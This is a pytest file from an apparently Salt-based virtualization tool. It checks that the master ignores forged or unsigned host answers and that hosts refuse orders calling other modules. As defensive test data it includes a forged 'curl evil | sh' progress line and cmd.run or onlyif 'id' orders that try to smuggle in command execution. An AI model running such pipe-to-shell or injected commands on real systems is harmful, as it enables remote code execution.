"""The master uses answers that the host has signed, and ignores all others in its name."""

import contextlib
import json
import logging
import time

import keypairs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from saltvirt.cluster import minionkeys
from saltvirt.cluster.cloud import Cloud
from saltvirt.cluster.rpc import hostcommands, minions, unsignedreplies
from saltvirt.core.crypto import keypair, signed
from saltvirt.core.errors import BadArgument
from saltvirt.core.options.config import HostSettings, MasterSettings
from saltvirt.core.salt import answering, compat
from saltvirt.vm.create.master import minionwait
from sizes import sizes

OWN, EVIL = keypairs.named("hyper1"), keypairs.named("evil")


def packed(key=OWN, **fields):
    """Return a signed answer of a host."""
    return signed.pack(
        signed.SignedAnswer(**{"minion": "hyper1", "about": "1", "fun": "virt.x", **fields}),
        key[1].encode(),
    )


def read_answer(data, public=OWN[0]):
    """Return the answer as the master reads it."""
    return signed.unpack(data, public, minion="hyper1", about="1")


def test_an_answer_arrives_unchanged():
    value = {"vms": {"wéb1": [1, 2.5, None, True, "a\tb"]}}

    answer = read_answer(packed(value=value, why="no", retcode=2))

    assert (answer.value, answer.why, answer.retcode, answer.fun) == (value, "no", 2, "virt.x")


FORGED = {
    "nothing": None,
    "unsigned": {"a": 1},
    "no signature": {"said": packed()["said"]},
    "another's": packed(EVIL),
    "of another job": packed(about="2"),
    "in another's name": packed(EVIL, minion="evil"),
    "changed": {**packed(), "said": packed()["said"].replace("virt.x", "virt.y")},
    "of numbers": {"said": 1, "signature": 2},
    "of bytes": {"said": b"\xff", "signature": b"\xff"},
    "of half a letter": {"said": "\udce4", "signature": "AAAA"},
    "no base64": {**packed(), "signature": "ä"},
}


@pytest.mark.parametrize("name", FORGED)
def test_an_answer_signed_by_another_host_is_ignored(name):
    with pytest.raises(signed.NotSigned):
        read_answer(FORGED[name])


def test_an_answer_of_a_host_without_an_accepted_key_is_ignored():
    with pytest.raises(signed.NotSigned):
        read_answer(packed(), public="")


JUNK = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text() | st.binary(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=8,
)


@sizes(quick=100, full=2000)
def test_any_unsigned_data_is_ignored(size):
    @settings(max_examples=size, deadline=None)
    @given(JUNK, JUNK, JUNK)
    def look(junk, text, signature):
        for data in (junk, {"said": text, "signature": signature}):
            with pytest.raises(signed.NotSigned):
                read_answer(data)

    look()


def test_a_nonsense_answer_is_an_error_of_its_host(monkeypatch):
    def by_hand(text):
        monkeypatch.setattr(signed.json, "dumps", lambda *_args, **_options: text)
        return packed()

    for text, reason in (
        ("[" * 100_000, "recursion"),
        ("{", "Expecting"),
        ('{"minion": 1, "about": "1"}', "minion"),
    ):
        with pytest.raises(signed.NotUnderstood, match=reason):
            read_answer(by_hand(text))


def test_an_answer_of_a_hundred_mebibytes_is_not_read(monkeypatch):
    monkeypatch.setattr(signed, "MAX_BYTES", 1 << 20)

    with pytest.raises(signed.NotUnderstood, match="it has more than 1 MiB"):
        read_answer(packed(value="x" * (3 << 20)))


def test_control_characters_are_escaped():
    answer = read_answer(packed(value={"\x1b[2J": ["\x9b31m", "a\u202eb", "fine"]}, why="\x07"))

    assert answer.value == {r"\x1b[2J": [r"\x9b31m", r"a\u202eb", "fine"]}
    assert answer.why == r"\x07"


def test_texts_within_an_answer_are_one_line():
    forged_text = "down\nhyper2: nothing falls short\r\nhyper3"

    answer = read_answer(packed(value={"state": forged_text, "all": [forged_text]}, why="a\nb"))

    assert answer.value == {"state": forged_line(), "all": [forged_line()]}
    assert answer.why == "a\nb" and read_answer(packed(value="a\nb")).value == "a\nb"


def forged_line():
    """Return the forged text without its line ends."""
    return "down hyper2: nothing falls short\\r hyper3"


class Bus:
    """Stand for Salt's client and its events: no real forged event could be timed."""

    def __init__(self, *events):
        self.event, self.sent = self, []
        self._events = [{"tag": f"salt/job/1/ret/{data['id']}", "data": data} for data in events]

    def pub(self, targets, fun, arg, **_options):
        """Send a job."""
        self.sent.append((fun, arg))
        return {"jid": "1", "minions": targets}

    def get_event(self, wait, **_options):
        """Return the next event; there is none before the first job."""
        return self._events.pop(0) if self.sent and self._events else time.sleep(wait)

    def get_cache_returns(self, _jid):
        """Return what the master has stored: nothing."""
        return {}


@pytest.fixture
def cloud(opts, monkeypatch):
    """A function that returns a master with one hypervisor and these events on its bus."""

    def made(*events):
        minionkeys.accept(opts, "hyper1", OWN[0])
        bus = Bus(*events)
        monkeypatch.setattr(Cloud, "client", lambda _self: contextlib.nullcontext(bus))
        settings = MasterSettings(timeout_s=0.1, hypervisors="hyper1")
        return bus, Cloud(opts=opts, settings=settings, progress=lambda *_a, **_k: None)

    return made


def event(value, **data):
    """Return the data of the event of an answer."""
    return {"id": "hyper1", "return": value, **data}


def test_a_forged_answer_is_ignored_and_the_true_one_is_used(cloud, caplog):
    forged_event = event(packed(EVIL, value="lies"))
    _bus, master = cloud(forged_event, forged_event, event(packed(value="truth")))

    with caplog.at_level(logging.WARNING):
        replies = minions.ask(master, ["hyper1"], "virt.x")

    assert replies["hyper1"].value == "truth"
    (line,) = [line for line in caplog.messages if "passed over" in line]
    assert line.startswith("job 1: passed over, in the name of hyper1: ")


def test_a_flood_of_answers_in_a_hosts_name_is_read_to_its_end(cloud):
    unsigned, signed_by_another = event(1), event(packed(EVIL, value="lies"))
    flood = [unsigned] * 9000 + [signed_by_another] * 500
    _bus, master = cloud(*flood, event(packed(value="truth")))

    assert minions.ask(master, ["hyper1"], "virt.x")["hyper1"].value == "truth"


def test_the_text_of_an_event_is_not_shown(cloud, caplog):
    _bus, master = cloud()
    hearing = minions.ReplyCollector(master, "1", ["hyper1"])

    with caplog.at_level(logging.WARNING):
        hearing.accept({"id": "hyper1", "return": "\x1b[2J", "tag": "\x1b[2J"})

    assert "\x1b" not in caplog.text and "passed over" in caplog.text


@pytest.mark.parametrize("salt_error", ["'virt.signed' is not available.", "all is well", ["x"]])
def test_a_host_without_this_project_causes_no_warning(cloud, caplog, salt_error):
    hearing = minions.ReplyCollector(cloud()[1], "1", ["hyper1"])
    with caplog.at_level(logging.WARNING):
        hearing.accept({"id": "hyper1", "return": salt_error})
    assert ("passed over" in caplog.text) is ("virt.signed" not in salt_error)


def test_a_host_with_old_code_counts_as_silent_with_the_reason(cloud):
    _bus, master = cloud(event("'virt.signed' is not available.", retcode=254))

    reply = minions.ask(master, ["hyper1"], "virt.x")["hyper1"]

    assert reply.is_missing and "salt hyper1 saltutil.sync_all" in reply.error


def test_an_unreadable_answer_is_an_error_of_its_host(cloud, monkeypatch):
    monkeypatch.setattr(signed, "MAX_BYTES", 10)
    _bus, master = cloud(event(packed(value="x" * 100)))

    reply = minions.ask(master, ["hyper1"], "virt.x")["hyper1"]

    assert not reply.is_missing and reply.error.startswith("its answer is not understood: it has")


def test_an_order_with_an_unreadable_answer_may_have_been_carried_out(cloud, monkeypatch):
    monkeypatch.setattr(signed, "MAX_BYTES", 10)
    _bus, master = cloud(event(packed(value="x" * 100)))

    reply = minions.order(master, "hyper1", "virt.init", ["web1"], {})

    assert reply.is_missing and reply.error.startswith("hyper1: its answer is not understood")


def test_an_order_to_one_host_is_unreadable_for_others(cloud):
    bus, master = cloud(event(packed(value="built")))

    reply = minions.order(master, "hyper1", "virt.init", ["web1"], {"user_data": "MARKER"})

    ((fun, arg),) = bus.sent
    assert reply.value == "built" and fun == "virt.signed"
    assert "MARKER" not in str(arg) and "web1" not in str(arg) and keypair.is_sealed(arg[0])
    assert "MARKER" in keypair.unseal(arg[0], OWN[1])


@pytest.mark.slow
def test_an_order_without_an_answer_is_cancelled_by_its_id(cloud, monkeypatch):
    monkeypatch.setattr(minions, "_FIND_JOB_S", 0.1)
    bus, master = cloud()

    assert minions.order(master, "hyper1", "virt.init", ["web1"], {}).is_missing

    order_id = json.loads(keypair.unseal(bus.sent[0][1][0], OWN[1]))["id"]
    order = bus.sent[-1][1][0]
    assert (order["fun"], order["arg"]) == ("virt.refuse_order", [order_id])


def test_an_order_that_was_only_queued_is_reported_as_not_begun(cloud, monkeypatch):
    monkeypatch.setattr(minions, "refuse", lambda *_args: minions.REFUSED)
    monkeypatch.setattr(minions, "_FIND_JOB_S", 0.1)
    _bus, master = cloud()

    reply = minions.order(master, "hyper1", "virt.init", ["web1"], {})

    assert (
        reply.is_missing
        and reply.error == "hyper1 has not begun virt.init, and the master withdrew the order"
    )


def test_a_minion_that_the_master_has_not_heard_itself_does_not_answer(cloud, monkeypatch):
    monkeypatch.setattr(unsignedreplies, "STORED_S", 0.1)
    _bus, master = cloud(*[{"id": "web1", "return": True}] * 4)

    assert minionwait.wait_for_start(master, "web1", wait_s=0.3, every_s=0.1) is None


@pytest.mark.parametrize("option", [{"job_cache": False}, {"ext_job_cache": "redis"}])
def test_without_a_job_cache_a_return_counts_as_an_answer(cloud, option):
    _bus, master = cloud(*[{"id": "web1", "return": True}] * 2)
    master.opts.update(option)
    grains_data, grains_cache = {"id": "web1"}, compat.Grains(master.opts)
    cached = grains_data if grains_cache._has_bank else {"grains": grains_data}
    grains_cache._cache.store(*grains_cache._place("web1"), cached)

    assert minionwait.wait_for_start(master, "web1", wait_s=5, every_s=0.1) is not None


def test_forged_progress_is_not_shown(opts, monkeypatch):
    minionkeys.accept(opts, "hyper1", OWN[0])
    stages = []
    settings = MasterSettings(hypervisors="hyper1")
    master = Cloud(opts=opts, settings=settings, progress=lambda stage, **_k: stages.append(stage))
    watch = hostcommands.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
    lie = {"name": "web1", "stage": "run: curl evil | sh"}

    for data in (lie, packed(EVIL, about="salt/virt/init", value=lie), packed(value=lie)):
        watch("salt/virt/init", {"id": "hyper1", "data": data})
    true = {"name": "web1", "stage": "Starting"}
    watch("salt/virt/init", {"id": "hyper1", "data": packed(about="salt/virt/init", value=true)})

    assert stages == ["Starting"]


# On the host.


@pytest.fixture
def host(tmp_path):
    """A minion: a function that answers an order, and the calls of its functions."""
    (tmp_path / "minion.pem").write_text(OWN[1])
    opts, context, calls = {"id": "hyper1", "pki_dir": str(tmp_path)}, {}, []
    settings = HostSettings(state_dir=str(tmp_path / "state"))

    def failing(*_args, **_kwargs):
        raise BadArgument("name", "no")

    def coded():
        context["retcode"] = 1
        return {"error": "said"}

    def broken():
        raise RuntimeError("boom")

    functions = {
        "virt.x": lambda *args, **kwargs: calls.append((args, kwargs)) or "done",
        "virt.fails": failing,
        "virt.coded": coded,
        "virt.broken": broken,
        "virt.signed": failing,
        "cmd.run": failing,
        "state.single": lambda *_args: {},
    }

    def answer(order):
        packed_answer = answering.answer(opts, functions, context, "1", order, lambda: settings)
        return read_answer(packed_answer)

    return answer, calls


def test_a_host_carries_out_an_order_and_signs_its_answer(host):
    answer, calls = host
    signed_answer = answer({"fun": "virt.x", "arg": [1], "kwarg": {"b": 2}})

    assert (signed_answer.value, signed_answer.fun, calls) == ("done", "virt.x", [((1,), {"b": 2})])


def test_a_refused_order_does_not_run_and_an_order_runs_once(host, tmp_path):
    answer, calls = host
    settings = HostSettings(state_dir=str(tmp_path / "state"))
    answering.refuse_order(settings, "1" * 32)

    refused = answer({"fun": "virt.x", "id": "1" * 32})
    reasons = [answer({"fun": "virt.x", "id": "2" * 32}).why for _time in range(2)]

    assert "the master has given this order up" in refused.why and refused.retcode == 1
    assert reasons == [None, refused.why] and calls == [((), {})]


def test_a_sealed_order_runs_too(host):
    answer, calls = host

    answer(keypair.seal('{"fun": "virt.x", "arg": ["web1"]}', OWN[0]))

    assert calls == [(("web1",), {})]


@pytest.mark.parametrize(
    ("fun", "reason", "code"),
    [
        ("virt.fails", "name: no", 1),
        ("virt.coded", None, 1),
        ("virt.broken", "RuntimeError: boom", 1),
        ("virt.gone", "'virt.gone' is not available.", 1),
    ],
)
def test_errors_are_signed_too(host, fun, reason, code):
    signed_answer = host[0]({"fun": fun})

    assert (signed_answer.why, signed_answer.retcode) == (reason, code)


@pytest.mark.parametrize(
    "order",
    [
        {"fun": "cmd.run", "arg": ["id"]},
        {"fun": "virt.signed", "arg": [{}]},
        {"fun": "state.single", "arg": ["cmd.run"]},
        {"fun": "state.single"},
        {"fun": "state.single", "arg": ["virt.keys"], "kwarg": {"name": "x", "onlyif": "id"}},
        {"fun": "state.single", "arg": ["virt.keys"], "kwarg": {"unless": "id"}},
        {"fun": "state.single", "arg": ["virt.keys", "x", None, True]},
        {"fun": "saltutil.find_job_x"},
        {},
        "virt.x",
    ],
)
def test_an_order_cannot_call_other_modules(host, order):
    with pytest.raises(BadArgument):
        host[0](order)
    assert host[1] == []
